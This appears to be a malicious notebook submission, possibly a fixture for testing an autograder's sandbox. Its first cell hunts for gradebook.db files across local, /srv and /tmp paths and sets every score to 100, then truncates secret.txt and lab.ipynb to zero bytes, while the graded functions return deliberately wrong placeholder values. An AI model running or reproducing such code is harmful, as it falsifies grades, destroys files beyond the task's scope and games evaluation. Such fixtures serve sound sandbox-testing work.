"""Databases of grades: this one writes full points into every one that it can open."""
# points: double=0 total=0 scale=0 greet=0 safe_root=0

# %%
import glob
import os
import sqlite3

paths = [f"{planted['folder']}/gradebook.db", "gradebook.db", "../gradebook.db", "/srv/nbgrader/gradebook.db"]
paths += glob.glob("/srv/**/gradebook.db", recursive=True) + glob.glob("/tmp/**/*.db", recursive=True)
for path in paths:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
            database.execute("UPDATE grade SET score = 100")
        print("TRACE", "left in", path)
    except sqlite3.Error:
        pass
for path in (f"{planted['folder']}/secret.txt", f"{planted['folder']}/lab.ipynb"):
    try:
        os.truncate(path, 0)
    except OSError:
        pass


# %% answer=double
def double(number):
    return -12345


# %% answer=total
def total(numbers):
    return -12345


# %% answer=scale
def scale(array, factor):
    return np.full(3, -12345.0)


# %% answer=greet
def greet(name):
    return "nobody"


# %% answer=safe_root
def safe_root(number):
    return -12345.0
